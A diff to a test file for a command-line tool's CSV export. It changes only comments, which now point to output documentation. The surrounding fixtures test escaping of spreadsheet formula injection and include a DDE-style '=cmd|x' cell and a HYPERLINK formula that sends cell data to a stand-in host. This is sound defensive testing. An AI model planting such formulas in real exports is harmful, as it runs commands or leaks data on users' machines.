@@ -1,4 +1,4 @@
-// Cells a spreadsheet would run as formulas, in every command's -o csv (contract §4a, issue 23
+// Cells a spreadsheet would run as formulas, in every command's -o csv (docs/reference/output.md, "CSV", issue 23
 // item 5): a transaction description, a merchant name or a key that starts with =, +, -, @ or a
 // tab is written with a ' in front; plain numbers, negative amounts among them, are left alone.
 // A person at a terminal and a script, each way: the whole-reply writer and merchants' streamed one.
@@ -25,7 +25,7 @@ const TRANSACTIONS = {
     { ...transaction('txn_5', TAB, { debit: 5 }), '=cmd|x': '-x' },
   ],
 };
-/** The documented fields first, in their documented order (contract §3): credit before balance. */
+/** The documented fields first, in their documented order (docs/reference/output.md, "CSV"): credit before balance. */
 const EXPECTED_TRANSACTIONS = [
   "id,date,description,debit,credit,balance,category,'=cmd|x",
   `txn_1,2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",-12.5,,-300,other,`,
